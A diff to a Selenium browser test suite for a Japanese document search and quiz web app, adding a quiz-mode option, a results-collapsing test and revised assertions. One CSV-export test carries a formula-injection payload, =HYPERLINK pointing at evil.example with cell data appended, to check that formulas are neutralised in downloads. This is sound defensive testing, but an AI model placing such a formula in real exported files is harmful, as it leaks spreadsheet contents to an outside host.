@@ -36,7 +36,7 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 from selenium.webdriver.remote.webdriver import WebDriver
 from selenium.webdriver.remote.webelement import WebElement
-from selenium.webdriver.support.ui import WebDriverWait
+from selenium.webdriver.support.ui import Select, WebDriverWait
 from serve_process import Server, running_server
 from tiny_index import build
 
@@ -229,10 +229,11 @@ def status_after(driver: WebDriver, element_id: str, previous: str) -> str:
     return wait(driver, lambda d: (t := by_id(d, element_id).text) != previous and "…" not in t and t, "no new status")
 
 
-def quiz_from_document(driver: WebDriver, path: str, n: int) -> list[WebElement]:
+def quiz_from_document(driver: WebDriver, path: str, n: int, mode: str = "auto") -> list[WebElement]:
     """Ask for n questions from one document, as a user would, and wait for them to be shown."""
     by_id(driver, "tab-quiz").click()
     driver.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
+    Select(by_id(driver, "quiz-mode")).select_by_value(mode)
     by_id(driver, "quiz-document").send_keys(path)
     count = by_id(driver, "quiz-n")
     count.clear()
@@ -275,7 +276,8 @@ def test_search_shows_highlighted_results_and_opens_the_passage_in_context(page:
     keyword_hits = [hit for hit in results if hit.find_elements(By.CSS_SELECTOR, ".snippet mark")]
     assert keyword_hits, "the keyword leg matches 有給休暇 and 申請: some snippet must mark them"
     marked = [mark.text for mark in keyword_hits[0].find_elements(By.CSS_SELECTOR, ".snippet mark")]
-    assert all(text and text in "有給休暇の申請" for text in marked), marked
+    # typed words, or a synonym of one (年次有給休暇 for 有給休暇), never a particle
+    assert all(text and (text in "有給休暇の申請" or "有給休暇" in text) for text in marked), marked
 
     passage_id = keyword_hits[0].get_attribute("data-passage-id")
     keyword_hits[0].find_element(By.CSS_SELECTOR, ".hit-title").click()
@@ -323,6 +325,8 @@ def test_filters_narrow_the_results(page: WebDriver, server: Server) -> None:
 
 @artifacts_on_failure
 def test_paging_moves_through_the_results(page: WebDriver, server: Server) -> None:
+    by_id(page, "search-filters").find_element(By.TAG_NAME, "summary").click()
+    click(page, by_id(page, "search-collapse"))  # every matching passage, not one per document
     first_page = [h.get_attribute("data-passage-id") for h in search_for(page, "休暇")]
     assert len(first_page) == 10 and by_id(page, "page-prev").get_attribute("disabled") is not None
     by_id(page, "page-next").click()
@@ -369,7 +373,7 @@ def test_ask_says_clearly_when_the_documents_hold_no_answer(page: WebDriver, ser
     answer = wait(page, lambda d: d.find_element(By.CSS_SELECTOR, "#ask-result .answer"), "no answer", 60)
     assert "unanswerable" in (answer.get_attribute("class") or "")
     assert "答えが見つかりませんでした" in answer.find_element(By.TAG_NAME, "h2").text
-    assert "no passages were retrieved" in answer.find_element(By.CSS_SELECTOR, ".reason").text
+    assert "見つかりませんでした" in answer.find_element(By.CSS_SELECTOR, ".reason").text
     assert not answer.find_elements(By.CSS_SELECTOR, ".cite-ref")
 
 
@@ -409,7 +413,8 @@ def test_quiz_renders_choices_scores_answers_and_downloads_csv(
     assert text.endswith("\r\n") and text.count("\r\n") == len(questions) + 1, "CRLF rows, as Excel writes them"
     rows = read_table(text)  # the CLI's own reader: the server writes the file with the CLI's code
     shown = [q.find_element(By.TAG_NAME, "legend").text for q in page.find_elements(By.CSS_SELECTOR, ".quiz-question")]
-    assert [f"問{i + 1}. {row['question']}" for i, row in enumerate(rows)] == shown
+    labels = {"cloze": "穴埋め", "generated": "生成"}  # each question says how it was made
+    assert [f"問{i + 1}. {row['question']} {labels[row['mode']]}" for i, row in enumerate(rows)] == shown
     assert [row["answer"] for row in rows] == answers and all(row["path"] == QUIZ_DOC for row in rows)
     assert list(next(csv.reader(io.StringIO(text.removeprefix("\ufeff")))))[-1] == "mode"
 
@@ -438,8 +443,9 @@ def test_quiz_csv_keeps_formulas_from_running_in_a_spreadsheet(
     page: WebDriver, server: Server, downloads: Path
 ) -> None:
     page.execute_script(HOSTILE_QUIZ_JS)
-    question = quiz_from_document(page, QUIZ_DOC, 1)[0]
-    assert question.find_element(By.TAG_NAME, "legend").text == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    question = quiz_from_document(page, QUIZ_DOC, 1, mode="cloze")[0]  # cloze: no model, always a question
+    legend = question.find_element(By.TAG_NAME, "legend").text
+    assert legend == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細") 穴埋め'
 
     text = download_quiz_csv(page, downloads).decode("utf-8-sig")
     # newline="": a bare CR ends a line, as in Excel and LibreOffice; the CR-led cell must not start a row.
@@ -551,3 +557,23 @@ def test_results_fit_a_phone_width(page: WebDriver, server: Server) -> None:
             page.save_screenshot(str(ARTIFACTS / "phone-search.png"))
     finally:
         page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
+
+
+@artifacts_on_failure
+def test_results_show_one_hit_per_document_and_the_rest_on_demand(page: WebDriver, server: Server) -> None:
+    search_for(page, "休暇")
+    paths = result_paths(page)
+    assert len(paths) == len(set(paths)), "the page collapses hits by document"
+    assert "ハイブリッド検索" in by_id(page, "search-status").text  # the mode that ranked them is named
+    more = page.find_elements(By.CSS_SELECTOR, "#search-results .more-in-document")
+    assert more, "some document has further matching passages"
+    path = more[0].find_element(By.XPATH, "ancestor::li").get_attribute("data-path")
+    previous = by_id(page, "search-status").text
+    click(page, more[0])
+    assert f"{path} の中" in status_after(page, "search-status", previous)
+    inside = result_paths(page)
+    assert len(inside) > 1 and set(inside) == {path}
+    previous = by_id(page, "search-status").text
+    click(page, by_id(page, "search-within-clear"))
+    status_after(page, "search-status", previous)
+    assert len(set(result_paths(page))) == len(result_paths(page)) > 1
